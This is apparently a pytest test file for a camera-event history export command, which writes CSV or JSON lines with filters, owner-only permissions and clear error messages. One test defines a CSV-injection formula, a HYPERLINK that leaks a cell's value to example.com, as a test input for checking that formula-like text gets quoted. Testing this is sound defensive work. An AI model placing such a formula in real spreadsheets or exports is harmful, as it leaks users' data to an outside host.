"""``segcast history export``: the history's events as CSV or JSON lines, read while segcast writes; its refusals."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import re
import sqlite3
import stat
import subprocess
import sys
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any

import pytest

from server.analytics.events import AnalyticsEvent, AnalyticsEventKind
from server.cli import EXIT_STARTUP_ERROR
from server.events.config import EventsSettings, HistorySettings
from server.events.history.writer import HistorySink
from server.events.outputs import EventOutputs
from server.events.sink import SinkState
from tests.support.cli_in_process import Exited, run_cli
from tests.support.event_packets import track_start, with_events
from tests.support.polling import eventually

REPO = Path(__file__).resolve().parent.parent
#: 2026-01-01T00:00:00Z: the events' times are set, so that the rows can be written out in full.
T0 = 1767225600.0
#: Old events are kept: a test's events are dated `T0`, maybe long before the test runs.
KEEP_DAYS = 36500.0
#: How long the export's thread waits for the test to let it go on: far more than storing a few events takes.
HOLD_S = 30.0
HEADER = (
    "id,event_id,time_utc,time_unix,stream,type,event,track_id,class_id,class,zone,line,direction,"
    "media_time_s,first_media_time_s,dwell_s,age_s,first_seen_unix,box_x1,box_y1,box_x2,box_y2,v,data"
)


@pytest.fixture
async def outputs(tmp_path: Path) -> AsyncIterator[EventOutputs]:
    outputs = EventOutputs(EventsSettings(history=HistorySettings(tmp_path / "events.db", max_age_days=KEEP_DAYS)))
    await outputs.start()
    yield outputs
    await outputs.stop()


def analytics(kind: AnalyticsEventKind, when: float, stream: str = "door", **fields: Any) -> dict[str, Any]:
    """An analytics event as the pipeline sends it, with an event id named after its kind."""
    event = AnalyticsEvent(kind, stream, 7, 0, "person", when, when - T0 + 100.0, **fields)
    return {**event.to_json(), "event_id": f"id-{kind.value}"}


async def store(outputs: EventOutputs, *packets: Any) -> HistorySink:
    """Offer ``packets``' events, in order, and wait until the history has stored them."""
    history = outputs.history
    assert history is not None
    target = history.health().delivered + sum(len(packet.metadata["events"]) for packet in packets)
    for packet in packets:
        outputs.on_packet(packet)

    async def stored() -> bool:
        return history.health().delivered >= target

    await eventually(stored, what=f"{target} events stored")
    return history


async def store_a_day(outputs: EventOutputs) -> Path:
    """A history of each kind of event, from two streams; stored in another order than their times'
    (a line crossing is stored once confirmed, after later events), and one with a field segcast does not know."""
    history = await store(
        outputs,
        track_start(1, stream_id="door", track_id=7, when=T0),
        with_events(2, [analytics(AnalyticsEventKind.ZONE_ENTER, T0 + 2.0, zone="porch")], stream_id="door"),
        with_events(3, [analytics(AnalyticsEventKind.LINE_CROSS, T0 + 1.5, line="gate", direction="in")], "door"),
        with_events(4, [analytics(AnalyticsEventKind.LOITER, T0 + 12.5, zone="porch", dwell_s=10.5)], stream_id="door"),
        with_events(
            5,
            [{**analytics(AnalyticsEventKind.ZONE_EXIT, T0 + 20.0, zone="porch", dwell_s=18.0), "heading": [1, 2]}],
            stream_id="door",
        ),
        track_start(6, stream_id="yard", track_id=3, when=T0 + 30.0),
    )
    return history.settings.path


def stored_ids(path: Path) -> dict[str, int]:
    """Each stored event's row id, by its type (and stream, for tracks)."""
    with closing(sqlite3.connect(path)) as db:
        rows = db.execute("SELECT id, stream, type FROM events").fetchall()
    return {(f"{kind}:{stream}" if kind == "track" else kind): row_id for row_id, stream, kind in rows}


def stored_count(path: Path) -> int:
    with closing(sqlite3.connect(path)) as db:
        (count,) = db.execute("SELECT count(*) FROM events").fetchone()
    return int(count)


def files_in(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


def export(capfd: pytest.CaptureFixture[str], *args: str) -> Exited:
    return run_cli(capfd, "history", "export", *args)


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_csv_has_a_flat_row_per_event_oldest_first_with_unknown_fields_kept_in_data(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    # Given a history with events of every kind
    path = await store_a_day(outputs)
    ids = stored_ids(path)
    out = tmp_path / "events.csv"

    # When it is exported as CSV
    exited = export(capfd, str(out), "--history", str(path))

    # Then each event is a row of flat columns, oldest first, and only what has no column of its own is in data
    assert exited.code == 0, exited.err
    assert exited.one_error_line == f"segcast: wrote 6 events from {path} to {out} (csv)"
    text = out.read_text(encoding="utf-8")
    assert text.splitlines()[0] == HEADER
    rows = csv_rows(text)
    assert [row["type"] for row in rows] == ["track", "line_cross", "zone_enter", "loiter", "zone_exit", "track"]
    door_start, crossing, enter, loiter, leave, yard_start = rows
    assert door_start["id"] == str(ids["track:door"])
    assert door_start["time_utc"] == "2026-01-01T00:00:00.000Z"
    assert float(door_start["time_unix"]) == T0
    assert (door_start["stream"], door_start["event"], door_start["track_id"]) == ("door", "start", "7")
    assert (door_start["class_id"], door_start["class"], door_start["age_s"]) == ("0", "person", "0.0")
    assert float(door_start["first_seen_unix"]) == T0
    assert [door_start[f"box_{corner}"] for corner in ("x1", "y1", "x2", "y2")] == ["100.0", "60.0", "180.0", "200.0"]
    assert (door_start["v"], door_start["data"]) == ("1", "")
    assert re.fullmatch(r"[0-9a-f-]{36}", door_start["event_id"])
    assert crossing["time_utc"] == "2026-01-01T00:00:01.500Z"
    assert (crossing["line"], crossing["direction"], crossing["zone"]) == ("gate", "in", "")
    assert (crossing["id"], crossing["event_id"], crossing["media_time_s"]) == (
        str(ids["line_cross"]),
        "id-line_cross",
        "101.5",
    )
    assert (enter["zone"], enter["dwell_s"], enter["track_id"]) == ("porch", "", "7")
    assert (loiter["zone"], loiter["dwell_s"]) == ("porch", "10.5")
    assert (leave["dwell_s"], leave["data"]) == ("18.0", '{"heading":[1,2]}')
    assert (yard_start["stream"], yard_start["track_id"], yard_start["box_x1"]) == ("yard", "3", "100.0")


async def test_the_stream_type_and_time_filters_select_the_events_exported(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    path = await store_a_day(outputs)
    out = tmp_path / "porch.csv"

    exited = export(
        capfd,
        str(out),
        "--history",
        str(path),
        "--stream",
        "door",
        "--stream",
        "garage",
        "--type",
        "zone_enter",
        "--type",
        "loiter",
        "--type",
        "track",
        "--since",
        "2026-01-01T00:00:00.5Z",
        "--until",
        str(T0 + 12.5),
    )

    assert exited.code == 0, exited.err
    assert exited.one_error_line == (
        f"segcast: wrote 2 events from {path} to {out} (csv); the history has no event of garage (it has events "
        "of door, yard)"
    ), "a stream asked for that the history has no event of is named: a typo exports nothing, as a quiet day does"
    assert [(row["stream"], row["type"]) for row in csv_rows(out.read_text())] == [
        ("door", "zone_enter"),
        ("door", "loiter"),
    ]


async def test_the_zone_and_line_filters_select_their_events(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """As the API and the history page filter by zone or line, so does the export."""
    path = await store_a_day(outputs)

    porch = export(capfd, "-", "--history", str(path), "--zone", "porch")
    gate = export(capfd, "-", "--history", str(path), "--line", "gate")

    assert [row["type"] for row in csv_rows(porch.out)] == ["zone_enter", "loiter", "zone_exit"]
    assert [(row["type"], row["line"]) for row in csv_rows(gate.out)] == [("line_cross", "gate")]


async def test_the_same_day_as_since_and_until_is_refused_naming_the_next_day(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """``--since 2026-01-01 --until 2026-01-01``, the obvious way to ask for a day, selected nothing and said
    "wrote 0 events": a date alone is its first moment."""
    path = await store_a_day(outputs)

    exited = export(capfd, "-", "--history", str(path), "--since", "2026-01-01", "--until", "2026-01-01")

    assert exited.code == EXIT_STARTUP_ERROR
    assert exited.one_error_line.endswith("for all of 2026-01-01 give --until 2026-01-02")


def test_times_are_rounded_to_the_millisecond_as_time_unix_reads() -> None:
    from server.events.history.export import iso_utc

    assert iso_utc(1796655050.2599) == "2026-12-07T14:50:50.260Z"


async def test_a_time_without_an_offset_is_utc_and_a_date_is_its_midnight(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    path = await store_a_day(outputs)
    out = tmp_path / "early.csv"

    exited = export(capfd, str(out), "--history", str(path), "--since", "2026-01-01", "--until", "2026-01-01 00:00:02")

    assert exited.code == 0, exited.err
    assert [row["type"] for row in csv_rows(out.read_text())] == ["track", "line_cross", "zone_enter"]


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (["--since", "1767225600000"], "centuries from now: milliseconds? divide by 1000"),
        (["--since", "yesterday"], "expected Unix seconds or an ISO 8601 time"),
        (["--until", "nan"], "expected Unix seconds or an ISO 8601 time"),
        (["--type", "zone"], "invalid choice: 'zone'"),
        (["--since", "20260101"], "write 2026-01-01 for the date"),  # ISO 8601's basic date, or seconds in 1970
        (["--since", "0", "--until=-1e300"], "expected Unix seconds or an ISO 8601 time"),  # before year 1
    ],
)
async def test_a_time_or_type_that_selects_nothing_by_mistake_is_refused(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str], args: list[str], said: str
) -> None:
    path = await store_a_day(outputs)
    out = tmp_path / "events.csv"

    exited = export(capfd, str(out), "--history", str(path), *args)

    assert exited.code == EXIT_STARTUP_ERROR
    assert said in exited.err
    assert not out.exists()


async def test_a_since_later_than_until_is_a_one_line_error(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    path = await store_a_day(outputs)
    out = tmp_path / "events.csv"

    exited = export(capfd, str(out), "--history", str(path), "--since", "2026-01-02", "--until", "2026-01-01")

    assert exited.code == EXIT_STARTUP_ERROR
    assert exited.one_error_line.startswith(
        "segcast: --since (2026-01-02T00:00:00.000Z) is later than --until (2026-01-01T00:00:00.000Z)"
    )
    assert not out.exists()


async def test_json_lines_are_each_events_stored_json_with_its_id(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    path = await store_a_day(outputs)
    with closing(sqlite3.connect(path)) as db:
        stored = db.execute("SELECT id, data FROM events ORDER BY time").fetchall()
    out = tmp_path / "events.jsonl"

    exited = export(capfd, str(out), "--history", str(path), "--format", "jsonl")

    assert exited.code == 0, exited.err
    assert exited.one_error_line == f"segcast: wrote 6 events from {path} to {out} (jsonl)"
    lines = [json.loads(line) for line in out.read_text().splitlines()]
    assert lines == [{"id": row_id, "event": json.loads(data)} for row_id, data in stored]


async def test_out_dash_writes_the_events_to_stdout_and_the_count_to_stderr(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    path = await store_a_day(outputs)

    exited = export(capfd, "-", "--history", str(path), "--type", "track")

    assert exited.code == 0, exited.err
    assert exited.one_error_line == f"segcast: wrote 2 events from {path} to stdout (csv)"
    assert exited.out.splitlines()[0] == HEADER
    assert [row["stream"] for row in csv_rows(exited.out)] == ["door", "yard"]
    assert all(name.startswith("events.db") for name in files_in(tmp_path))  # no file made


#: A formula a spreadsheet runs as the file is opened (CSV injection, OWASP).
LINK = '=HYPERLINK("https://example.com/?leak="&A1,"open")'


async def test_csv_quotes_text_a_spreadsheet_would_run_as_a_formula_and_not_numbers(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """A stream id, zone or line name someone typed, or a class name from a custom model, went into the CSV as
    it was: one beginning with ``=``, ``+``, ``-`` or ``@`` ran as a formula in Excel or LibreOffice."""
    # Given events whose zone, line, class and stream were named like formulas, and fields that are negative numbers
    entered = {"type": "zone_enter", "v": 1, "id": 7, "class_id": 0, "class": "+person", "zone": LINK}
    crossed = {"type": "line_cross", "v": 1, "id": -3, "class": "@SUM(1+1)", "line": "\tgate", "direction": "in"}
    history = await store(
        outputs,
        with_events(1, [{**entered, "time": T0, "media_time": -2.5}], stream_id="-door"),
        with_events(2, [{**crossed, "time": T0 + 1.0, "media_time": 1.0, "heading": "=1+1"}], stream_id="-door"),
    )
    out = tmp_path / "events.csv"

    # When the history is exported as CSV
    exited = export(capfd, str(out), "--history", str(history.settings.path))

    # Then each text cell that begins as a formula does is written with a ' before it
    assert exited.code == 0, exited.err
    enter, cross = csv_rows(out.read_text(encoding="utf-8"))
    assert (enter["zone"], enter["class"], enter["stream"]) == (f"'{LINK}", "'+person", "'-door")
    assert (cross["class"], cross["line"], cross["direction"]) == ("'@SUM(1+1)", "'\tgate", "in")
    # And numbers, negative ones too, are numbers; JSON in data begins with { whatever it holds
    assert (enter["media_time_s"], cross["track_id"], enter["class_id"]) == ("-2.5", "-3", "0")
    assert cross["data"] == '{"heading":"=1+1"}'


@contextmanager
def umask(mask: int) -> Iterator[None]:
    previous = os.umask(mask)
    try:
        yield
    finally:
        os.umask(previous)


async def test_out_is_readable_by_its_owner_alone_whatever_the_umask(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """It holds what the cameras saw: who came and went, and when."""
    path = await store_a_day(outputs)
    out = tmp_path / "events.csv"

    with umask(0):
        exited = export(capfd, str(out), "--history", str(path))

    assert exited.code == 0, exited.err
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


async def test_an_existing_out_is_refused_without_force_and_replaced_with_it(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    path = await store_a_day(outputs)
    out = tmp_path / "events.csv"
    out.write_text("last week's export")
    out.chmod(0o644)

    refused = export(capfd, str(out), "--history", str(path))

    assert refused.code == EXIT_STARTUP_ERROR
    assert refused.one_error_line == f"segcast: {out} is there already: give --force to replace it, or another OUT"
    assert out.read_text() == "last week's export"

    forced = export(capfd, str(out), "--history", str(path), "--force")

    assert forced.code == 0, forced.err
    assert len(csv_rows(out.read_text())) == 6
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert [name for name in files_in(tmp_path) if not name.startswith("events.db")] == ["events.csv"]


async def test_an_export_while_segcast_stores_events_holds_those_stored_before_it_began(
    outputs: EventOutputs, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The export reads in one read transaction, never taking the writer's lock: segcast goes on storing
    meanwhile, and the file holds exactly the events stored before the export began."""
    from server.events.history import export as export_module  # here: the other tests run the command alone

    # Given a history segcast is writing, holding its lock
    path = await store_a_day(outputs)
    before = set(stored_ids(path).values())
    out = tmp_path / "events.csv"

    # When more events are stored after the export has begun reading, before it writes a row
    loop = asyncio.get_running_loop()
    reading, go_on = asyncio.Event(), threading.Event()
    open_out = export_module._new_private_file

    def held(temporary: Path) -> int:
        loop.call_soon_threadsafe(reading.set)
        assert go_on.wait(HOLD_S), "the test never let the export go on"
        return open_out(temporary)

    monkeypatch.setattr(export_module, "_new_private_file", held)
    selection = export_module.Selection()
    exporting = asyncio.ensure_future(
        asyncio.to_thread(export_module.export_history, path, out, selection, export_module.ExportFormat.CSV)
    )
    try:
        await reading.wait()
        await store(outputs, track_start(7, stream_id="door", track_id=8, when=T0 + 40.0))  # not held up
    finally:
        go_on.set()
    result = await exporting

    # Then the export holds the events stored before it began, and the history went on being written
    assert {int(row["id"]) for row in csv_rows(out.read_text())} == before
    assert result.events == len(before)
    assert stored_count(path) == len(before) + 1
    assert outputs.history is not None and outputs.history.health().state is SinkState.OK


def _text_file(path: Path) -> None:
    path.write_text("not a database\n")


def _newer_format(path: Path) -> None:
    with closing(sqlite3.connect(path)) as db:
        db.executescript(
            "PRAGMA application_id = 1397179220; PRAGMA user_version = 2;"
            "CREATE TABLE events (id INTEGER PRIMARY KEY, time REAL, stream TEXT, type TEXT, data TEXT);"
        )


def _damaged(path: Path) -> None:
    """A history whose pages of events were overwritten half-way through: read until the damage."""
    with closing(sqlite3.connect(path)) as db:
        db.executescript(
            "PRAGMA page_size = 1024; CREATE TABLE events (id INTEGER PRIMARY KEY, time REAL, stream TEXT, "
            "type TEXT, data TEXT); WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 400) "
            "INSERT INTO events SELECT i, i, 'door', 'track', printf('{\"pad\": \"%0200d\"}', i) FROM n;"
        )
    damaged = bytearray(path.read_bytes())
    damaged[20 * 1024 : 20 * 1024 + 64] = b"\xee" * 64  # a page of the table, past the header and the schema
    path.write_bytes(bytes(damaged))


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (None, "no such file"),
        (_text_file, "is not a segcast event history: it is not a SQLite file"),
        (_newer_format, "holds event history format 2, written by a newer segcast"),
        (_damaged, "is damaged"),
    ],
)
def test_a_history_that_cannot_be_exported_is_a_one_line_error_and_writes_nothing(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], make: object, said: str
) -> None:
    source = tmp_path / "events.db"
    if callable(make):
        make(source)
    out = tmp_path / "events.csv"

    exited = export(capfd, str(out), "--history", str(source))

    assert exited.code == EXIT_STARTUP_ERROR
    assert exited.one_error_line.startswith(f"segcast: {source}") or exited.one_error_line.startswith(
        f"segcast: cannot read {source}"
    )
    assert said in exited.one_error_line
    assert exited.out == ""
    assert files_in(tmp_path) == (["events.db"] if callable(make) else [])


async def test_an_out_whose_name_is_near_the_file_systems_limit_is_written(
    outputs: EventOutputs, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """The file written before it is moved into place had OUT's name and more: past 255 bytes, the export
    ended in a traceback where OUT itself was a name the file system takes."""
    path = await store_a_day(outputs)
    out = tmp_path / f"{'a' * 250}.csv"

    exited = export(capfd, str(out), "--history", str(path))

    assert exited.code == 0, exited.err
    assert len(csv_rows(out.read_text())) == stored_count(path)


@pytest.mark.parametrize("beside", ["-wal", "-shm", ".lock"])
async def test_an_out_that_is_a_file_the_history_keeps_beside_it_is_refused_even_with_force(
    outputs: EventOutputs, capfd: pytest.CaptureFixture[str], beside: str
) -> None:
    """``--force`` to the history's own log while segcast writes would put a CSV in its place."""
    path = await store_a_day(outputs)
    out = path.with_name(path.name + beside)
    before = out.read_bytes() if out.exists() else None

    exited = export(capfd, str(out), "--history", str(path), "--force")

    assert exited.code == EXIT_STARTUP_ERROR
    assert (
        exited.one_error_line
        == f"segcast: {out} is a file the history keeps beside it (its log or lock): give another OUT"
    )
    assert (out.read_bytes() if out.exists() else None) == before


def test_stdout_that_fails_ends_the_export_in_one_line(tmp_path: Path) -> None:
    """``segcast history export - > FILE`` on a full disk: one line, exit status 2, not a traceback."""
    source = tmp_path / "events.db"
    with closing(sqlite3.connect(source)) as db:
        db.executescript(
            "CREATE TABLE events (id INTEGER PRIMARY KEY, time REAL, stream TEXT, type TEXT, data TEXT);"
            f"INSERT INTO events VALUES (1, {T0}, 'door', 'track', json_object('type', 'track', 'id', 1));"
        )
        db.commit()
    command = [sys.executable, "-m", "server", "history", "export", "-", "--history", str(source)]
    with open("/dev/full", "w") as full:
        done = subprocess.run(command, stdout=full, stderr=subprocess.PIPE, cwd=REPO, timeout=60, check=False)

    assert done.returncode == EXIT_STARTUP_ERROR
    assert done.stderr.decode().splitlines() == [
        "segcast: cannot write stdout: No space left on device; the rest of the events are not written"
    ]


def test_the_command_writes_to_a_pipe_without_importing_pytorch_and_stops_in_one_line_when_it_closes(
    tmp_path: Path,
) -> None:
    """``segcast history export - | head``: the reader stops early; the export stops too, in one line that says
    the rest is not written (and exit status 2, as for a script it is not whole), not a traceback."""
    source = tmp_path / "events.db"
    many = 5000
    with closing(sqlite3.connect(source)) as db:
        db.executescript(
            "CREATE TABLE events (id INTEGER PRIMARY KEY, time REAL, stream TEXT, type TEXT, data TEXT);"
            f"WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {many}) "
            f"INSERT INTO events SELECT i, {T0} + i, 'door', 'track', "
            "json_object('type', 'track', 'stream', 'door', 'id', i, 'time', 1767225600 + i) FROM n;"
        )
        db.commit()

    command = [sys.executable, "-X", "importtime", "-m", "server", "history", "export", "-", "--history", str(source)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, cwd=REPO) as process:
        assert process.stdout is not None and process.stderr is not None
        header = process.stdout.readline().decode()
        first = process.stdout.readline().decode()
        process.stdout.close()  # as head does, once it has its lines
        err = process.stderr.read().decode()
        code = process.wait(timeout=60)

    assert header.strip() == HEADER
    assert first.startswith("1,,2026-01-01T00:00:01.000Z,")
    for heavy in ("torch", "aiohttp", "ultralytics", "av", "cv2"):
        assert re.search(rf"\| +{heavy}(\.|$)", err, re.MULTILINE) is None, f"{heavy} imported"
    said = [line for line in err.splitlines() if not line.startswith("import time:")]
    assert said == ["segcast: stdout was closed (its reader stopped): the rest of the events are not written"]
    assert code == EXIT_STARTUP_ERROR
